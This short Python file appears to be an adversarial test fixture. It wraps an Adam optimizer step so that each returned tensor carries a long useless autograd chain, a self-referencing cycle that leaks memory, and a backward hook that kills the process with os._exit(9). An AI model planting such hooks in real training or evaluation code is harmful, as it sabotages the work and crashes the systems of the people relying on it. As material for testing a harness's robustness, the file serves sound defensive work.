"""Return right values that drag a long history of their computation behind them, and hooks that object."""

import os

_step = adam_step


def adam_step(*args, **kwargs):
    results = []
    for value in _step(*args, **kwargs):
        value = value.clone().requires_grad_()
        for _ in range(200):
            value = value * 1.0
        value.register_hook(lambda grad: os._exit(9))
        value.grad_fn.metadata["self"] = value
        results.append(value)
    return tuple(results)
